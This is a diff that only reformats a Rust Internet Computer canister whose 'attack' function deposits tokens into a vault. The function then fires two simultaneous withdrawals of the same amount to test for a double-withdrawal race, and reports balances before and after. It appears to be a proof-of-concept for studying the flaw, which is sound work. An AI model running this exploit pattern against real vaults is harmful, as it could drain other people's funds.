@@ -23,14 +23,23 @@ async fn attack(vault: Principal, amount: u64) -> Result<Report, String> {
     let token: Principal = decode(Call::bounded_wait(vault, "token").await)?;
     let tokens_before = tokens_of_self(token).await?;
 
-    Call::bounded_wait(token, "approve").with_args(&(vault, amount)).await.map_err(|error| error.to_string())?;
+    Call::bounded_wait(token, "approve")
+        .with_args(&(vault, amount))
+        .await
+        .map_err(|error| error.to_string())?;
     decode::<Result<(), String>>(Call::bounded_wait(vault, "deposit").with_arg(amount).await)??;
 
     // Both requests leave in this message execution, before the vault has seen either of them.
-    let (first_withdrawal, second_withdrawal) = join(withdraw(vault, amount), withdraw(vault, amount)).await;
+    let (first_withdrawal, second_withdrawal) =
+        join(withdraw(vault, amount), withdraw(vault, amount)).await;
 
     let tokens_after = tokens_of_self(token).await?;
-    Ok(Report { tokens_before, tokens_after, first_withdrawal, second_withdrawal })
+    Ok(Report {
+        tokens_before,
+        tokens_after,
+        first_withdrawal,
+        second_withdrawal,
+    })
 }
 
 async fn withdraw(vault: Principal, amount: u64) -> Result<(), String> {
@@ -38,7 +47,11 @@ async fn withdraw(vault: Principal, amount: u64) -> Result<(), String> {
 }
 
 async fn tokens_of_self(token: Principal) -> Result<u64, String> {
-    decode(Call::bounded_wait(token, "balance_of").with_arg(canister_self()).await)
+    decode(
+        Call::bounded_wait(token, "balance_of")
+            .with_arg(canister_self())
+            .await,
+    )
 }
 
 /// Decodes the one value of a reply.
@@ -46,7 +59,10 @@ fn decode<T>(outcome: Result<Response, CallFailed>) -> Result<T, String>
 where
     T: CandidType + for<'a> Deserialize<'a>,
 {
-    outcome.map_err(|error| error.to_string())?.candid().map_err(|error| error.to_string())
+    outcome
+        .map_err(|error| error.to_string())?
+        .candid()
+        .map_err(|error| error.to_string())
 }
 
 ic_cdk::export_candid!();
